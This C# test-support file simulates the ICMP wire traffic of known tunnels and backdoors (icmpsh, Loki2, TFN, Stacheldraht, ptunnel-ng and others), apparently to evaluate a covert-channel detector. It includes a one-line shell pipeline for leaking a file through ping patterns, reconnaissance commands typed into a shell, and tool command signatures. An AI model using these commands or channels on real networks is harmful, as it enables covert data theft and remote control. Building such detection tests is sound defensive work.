using System.Buffers.Binary;
using System.Text;
using IcmpStream.Ingest.Generate;
using static IcmpStream.EndToEnd.Tests.Eval.Script;

namespace IcmpStream.EndToEnd.Tests.Eval;

/// <summary>
/// Tunnels and backdoors as they look on the wire, after their published sources and analyses. Session contents are made up; random
/// bytes, which stand for encrypted ones, come from a seed.
/// </summary>
internal sealed class ToolTraffic(string client, string server, int seed = 11)
{
    private readonly Random _random = new(seed);

    public Script Script { get; } = new();

    /// <summary>
    /// icmptunnel (Dhaval Kapil): whole IPv4 packets in requests and replies, TTL 255; identifier and sequence number are random in
    /// every packet, so that no reply matches a request.
    /// </summary>
    public Script KapilTunnel(int exchanges = 60, double gapMs = 150)
    {
        for (int i = 0; i < exchanges; i++)
        {
            Script.Request(i * gapMs, client, server, _random.Next(65_536), _random.Next(65_536), InnerIpv4("10.0.1.2", "93.184.216.34", _random.Next(40, 400)), 255);
            Script.Reply((i * gapMs) + 30, server, client, _random.Next(65_536), _random.Next(65_536), InnerIpv4("93.184.216.34", "10.0.1.2", _random.Next(40, 900)), 255);
        }

        return Script;
    }

    /// <summary>
    /// icmpsh: the slave asks every 200 ms, with nothing or with up to 64 bytes of what its shell says; the master answers with nothing
    /// or with a line that was typed.
    /// </summary>
    public Script Icmpsh(string banner, double seconds = 20)
    {
        byte[] said = Encoding.ASCII.GetBytes(banner);
        string[] lines = ["whoami\n", "ipconfig /all\n", "dir c:\\users\n", "net user\n"];
        int sequence = 1;
        for (double ms = 0; ms < seconds * 1000; ms += 200)
        {
            byte[] part = said[..Math.Min(64, said.Length)];
            said = said[part.Length..];
            bool isTyped = part.Length == 0 && sequence % 20 == 0;
            byte[] line = isTyped ? Encoding.ASCII.GetBytes(lines[sequence / 20 % lines.Length]) : [];
            Script.Request(ms, client, server, 1, sequence, part, 255);
            Script.Reply(ms + 15, server, client, 1, sequence++, line);
            if (isTyped)
                said = Encoding.ASCII.GetBytes(string.Join("\r\n", Enumerable.Range(0, 8).Select(i => $"   output line {i} of the command, {_random.Next(1_000_000)} bytes")));
        }

        return Script;
    }

    /// <summary>
    /// Pingback: orders in requests with sequence number 1234 and 788 bytes of a C structure that begins with the command; 1235 and 1236
    /// acknowledge with the same size. Little-endian.
    /// </summary>
    public Script Pingback()
    {
        string[] commands = ["shell", "exep", "download", "upload", "rexec"];
        for (int i = 0; i < commands.Length; i++)
        {
            byte[] order = new byte[788];
            Encoding.ASCII.GetBytes(commands[i]).CopyTo(order, 0);
            _random.NextBytes(order.AsSpan(256, 64));
            Script.Request(i * 2000, client, server, 0x0200, Swap(1234), order);
            Script.Reply((i * 2000) + 20, server, client, 0x0200, Swap(1234), order);
            Script.Request((i * 2000) + 300, server, client, 0x0200, Swap(1235), order);
            Script.Request((i * 2000) + 500, server, client, 0x0200, Swap(1236), order);
        }

        return Script;
    }

    /// <summary>
    /// Loki2: sequence number 0xF001 in every message, the process id as identifier, 56 bytes: a tag (0xB1 request, 0xB2 reply), then
    /// what is said, enciphered by default. One order, many replies.
    /// </summary>
    public Script Loki2(bool isEnciphered = true)
    {
        for (int order = 0; order < 4; order++)
        {
            Script.Request(order * 3000, client, server, 0x1F2A, Swap(0xF001), LokiMessage(0xB1, "ls -la /etc", isEnciphered));
            for (int line = 0; line < 6; line++)
                Script.Reply((order * 3000) + 40 + (line * 10), server, client, 0x1F2A, Swap(0xF001), LokiMessage(0xB2, $"-rw-r--r-- 1 root root {line * 917} file{line}", isEnciphered));
        }

        return Script;
    }

    /// <summary>
    /// TFN: orders to agents in replies that nobody asked for, the order in the identifier (config.h: 345, 678, 890, 901 ...), its
    /// argument as text; the agent acknowledges with identifier 123.
    /// </summary>
    public Script Tfn()
    {
        (int Id, string Text)[] orders = [(456, "31337"), (890, "198.51.100.77"), (901, "198.51.100.77@198.51.100.78"), (678, "1234"), (345, "198.51.100.77"), (567, ".")];
        for (int i = 0; i < orders.Length; i++)
        {
            Script.Reply(i * 1200, client, server, orders[i].Id, 0, Encoding.ASCII.GetBytes(orders[i].Text + "\0"));
            Script.Reply((i * 1200) + 60, server, client, 123, 0, Encoding.ASCII.GetBytes(i == 0 ? "shell bound to port 31337\n\0" : "tfn: order taken\n\0"));
        }

        return Script;
    }

    /// <summary>
    /// TFN2K: each order 20 times, in replies that nobody asked for; identifier and sequence number zero or random, TTL 200 to 255, the
    /// enciphered order in base 64, which ends in a row of 'A' since its padding is zeros.
    /// </summary>
    public Script Tfn2k()
    {
        for (int order = 0; order < 3; order++)
        {
            string text = Convert.ToBase64String(Random(24 + (order * 6))).TrimEnd('=') + new string('A', 12 + order);
            for (int copy = 0; copy < 20; copy++)
                Script.Reply((order * 4000) + (copy * 9), client, server, _random.Next(2) * _random.Next(65_536), _random.Next(2) * _random.Next(65_536), Encoding.ASCII.GetBytes(text), (byte)_random.Next(200, 256));
        }

        return Script;
    }

    /// <summary>
    /// Stacheldraht: the agent reports with identifier 666 and 'skillz', the handler answers with 667 and 'ficken'; a spoofed probe is
    /// answered with 1000 and 'spoofworks'. All are replies, and nobody asked.
    /// </summary>
    public Script Stacheldraht()
    {
        for (int i = 0; i < 5; i++)
        {
            Script.Reply(i * 2000, client, server, 666, 0, "skillz\0\0"u8);
            Script.Reply((i * 2000) + 30, server, client, 667, 0, "ficken\0\0"u8);
        }

        return Script.Reply(10_500, server, client, 1000, 0, "spoofworks"u8);
    }

    /// <summary>Hans: 'hanc' or 'hans', a type, then a packet of the tunnel device; polls with no data hold the server's answers open.</summary>
    public Script Hans()
    {
        Script.Request(0, client, server, 0x5A5A, 0x5A5A, [.. "hanc"u8, 1, .. Random(12)]);
        Script.Reply(25, server, client, 0x5A5A, 0x5A5A, [.. "hans"u8, 3, .. Random(20)]);
        for (int i = 1; i < 60; i++)
        {
            Script.Request(i * 120, client, server, 0x5A5A, 0x5A5A, i % 3 == 0 ? [.. "hanc"u8, 8] : [.. "hanc"u8, 6, .. InnerIpv4("10.1.2.100", "10.1.2.1", 200)]);
            Script.Reply((i * 120) + 20, server, client, 0x5A5A, 0x5A5A, [.. "hans"u8, 6, .. InnerIpv4("10.1.2.1", "10.1.2.100", 400)]);
        }

        return Script;
    }

    /// <summary>icmptx and itun: packets of the tunnel device as they are, in requests and their own replies.</summary>
    public Script BarePackets(bool isIpv6 = false)
    {
        for (int i = 0; i < 80; i++)
        {
            Script.Request(i * 100, client, server, 4711, i, isIpv6 ? InnerIpv6(120 + i) : InnerIpv4("10.9.0.2", "10.9.0.1", 120 + i));
            Script.Reply((i * 100) + 20, server, client, 4711, i, isIpv6 ? InnerIpv6(300 + i) : InnerIpv4("10.9.0.1", "10.9.0.2", 300 + i));
        }

        return Script;
    }

    /// <summary>icmpdoor: identifier 13170, a typed line in the request, what the shell said in the replies, nothing enciphered.</summary>
    public Script Icmpdoor()
    {
        for (int i = 0; i < 12; i++)
        {
            Script.Request(i * 1500, client, server, 13_170, 0, Encoding.ASCII.GetBytes($"cat /var/log/messages.{i}"));
            Script.Reply((i * 1500) + 40, server, client, 13_170, 0, Encoding.ASCII.GetBytes($"Nov {i + 1} 12:0{i % 10}:33 host kernel: [  {i}1.772] eth0: link becomes ready\n"));
        }

        return Script;
    }

    /// <summary>
    /// A download in the manner of Invoke-IcmpDownload: small requests in a fixed rhythm, each answered with the next piece of a file
    /// in base 64.
    /// </summary>
    public Script Download(int pieces = 60, double gapMs = 200)
    {
        for (int i = 0; i < pieces; i++)
        {
            Script.Request(i * gapMs, client, server, 1, i, Iputils(StartNs, 32));
            Script.Reply((i * gapMs) + 12, server, client, 1, i, Encoding.ASCII.GetBytes(Convert.ToBase64String(Random(540))));
        }

        return Script;
    }

    /// <summary>`xxd -p -c 16 file | while read l; do ping -c 1 -p $l host; done`: a timeval, then 16 bytes of the file over and over.</summary>
    public Script PingPattern(string text, double gapMs = 30)
    {
        byte[] file = Encoding.ASCII.GetBytes(text);
        for (int i = 0; i * 16 < file.Length; i++)
        {
            byte[] payload = Iputils(StartNs + (long)(i * gapMs * 1e6), 56);
            byte[] piece = file[(i * 16)..Math.Min(file.Length, (i * 16) + 16)];
            for (int k = 16; k < payload.Length; k++)
                payload[k] = piece[k % piece.Length];
            Script.Request(i * gapMs, client, server, 2000 + (i * 3), 1, payload);
            Script.Reply((i * gapMs) + 10, server, client, 2000 + (i * 3), 1, payload);
        }

        return Script;
    }

    /// <summary>A file in requests that the other end's kernel echoes, in pieces of one size.</summary>
    public Script Echoed(Func<int, byte[]> piece, int pieces, double gapMs)
    {
        for (int i = 0; i < pieces; i++)
        {
            byte[] payload = piece(i);
            Script.Request(i * gapMs, client, server, 0x3344, i, payload);
            Script.Reply((i * gapMs) + 20, server, client, 0x3344, i, payload);
        }

        return Script;
    }

    /// <summary>A tunnel of no known tool: enciphered both ways, replies with data of their own.</summary>
    public Script Enciphered(int bytes, int exchanges, double gapMs)
    {
        for (int i = 0; i < exchanges; i++)
        {
            Script.Request(i * gapMs, client, server, 0x2A17, i, Random(bytes));
            Script.Reply((i * gapMs) + 20, server, client, 0x2A17, i, Random(bytes));
        }

        return Script;
    }

    /// <summary>ptunnel-ng with a magic number of its owner's, odd lengths padded to even.</summary>
    public Script PtunnelNg(uint magic)
    {
        for (int i = 0; i < 100; i++)
        {
            Script.Request(i * 100, client, server, 0x77, i, PtunnelMessage(magic, 0x4000_0002));
            Script.Reply((i * 100) + 25, server, client, 0x77, i, PtunnelMessage(magic, 0x8000_0002));
        }

        return Script;
    }

    public byte[] Random(int bytes)
    {
        byte[] data = new byte[bytes];
        _random.NextBytes(data);
        return data;
    }

    private byte[] PtunnelMessage(uint magic, uint state)
    {
        int length = _random.Next(20, 400);
        byte[] message = new byte[28 + length + (length % 2)];
        BinaryPrimitives.WriteUInt32BigEndian(message, magic);
        BinaryPrimitives.WriteUInt32BigEndian(message.AsSpan(4), Ip("192.0.2.80").Ipv4);
        BinaryPrimitives.WriteUInt32BigEndian(message.AsSpan(8), 22);
        BinaryPrimitives.WriteUInt32BigEndian(message.AsSpan(12), state);
        BinaryPrimitives.WriteUInt32BigEndian(message.AsSpan(20), (uint)length);
        _random.NextBytes(message.AsSpan(28, length));
        return message;
    }

    private byte[] LokiMessage(byte tag, string text, bool isEnciphered)
    {
        byte[] message = isEnciphered ? Random(56) : new byte[56];
        message[0] = tag;
        if (!isEnciphered)
            Encoding.ASCII.GetBytes(text).CopyTo(message, 1);
        return message;
    }

    private byte[] InnerIpv4(string from, string to, int dataBytes)
    {
        byte[] packet = new byte[20 + dataBytes];
        packet[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), (ushort)packet.Length);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), (ushort)_random.Next(65_536));
        (packet[8], packet[9]) = (64, 6);
        BinaryPrimitives.WriteUInt32BigEndian(packet.AsSpan(12), Ip(from).Ipv4);
        BinaryPrimitives.WriteUInt32BigEndian(packet.AsSpan(16), Ip(to).Ipv4);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(10), FrameBuilder.Checksum(packet.AsSpan(0, 20)));
        _random.NextBytes(packet.AsSpan(20));
        return packet;
    }

    private byte[] InnerIpv6(int dataBytes)
    {
        byte[] packet = new byte[40 + dataBytes];
        packet[0] = 0x60;
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), (ushort)dataBytes);
        (packet[6], packet[7]) = (6, 64);
        Ip("fd00::2").Write(packet.AsSpan(8, 16));
        Ip("fd00::1").Write(packet.AsSpan(24, 16));
        _random.NextBytes(packet.AsSpan(40));
        return packet;
    }

    private static int Swap(int value) => BinaryPrimitives.ReverseEndianness((ushort)value);
}
